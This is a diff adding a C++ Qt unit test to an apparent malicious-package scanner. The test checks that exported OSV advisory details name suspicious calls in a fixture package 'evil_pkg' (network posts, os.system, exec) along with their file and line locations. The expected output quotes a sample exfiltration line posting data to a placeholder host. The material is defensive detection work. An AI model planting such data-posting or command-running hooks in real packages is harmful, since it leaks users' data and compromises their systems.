@@ -198,6 +198,23 @@ class TestExportOsv : public QObject {
                  qPrintable(details));
     }
 
+    // Calls in a file the script runs and in a decoded payload name their place; evidence in that file shows its line.
+    void detailsNameFilesOutsideTheScript() {
+        const mph::ScanResult scan = fixture::makeScanWithReach();
+        OsvCase oc = makeCase(0);
+        oc.context = caseContext(scan, 0, QByteArray::fromStdString(fixture::kSetupPy));
+        oc.caseFile.evidence.append({"Evil_Pkg.Name-1.0/evil_pkg/_hooks.py", 3, 3, "posts the data"});
+        const QString details = osvRecord(oc).value("details").toString();
+        QVERIFY2(details.contains("talks to the network: requests.post (Evil_Pkg.Name-1.0/evil_pkg/_hooks.py:3)"),
+                 qPrintable(details));
+        QVERIFY2(details.contains("runs system commands: os.system (line 6; Evil_Pkg.Name-1.0/setup.py (layer 1):2)"),
+                 qPrintable(details));
+        QVERIFY2(details.contains("executes dynamically built code: exec (line 8)"), qPrintable(details));
+        QVERIFY2(details.contains("- Evil_Pkg.Name-1.0/evil_pkg/_hooks.py, line 3: posts the data\n"
+                                  "    3: requests.post('https://x.invalid', data=b'')"),
+                 qPrintable(details));
+    }
+
     void importAndStartupTriggers() {
         const QString details = osvRecord(makeCase(1)).value("details").toString();
         QVERIFY2(details.contains("whenever the package 'evil_pkg' is imported"), qPrintable(details));
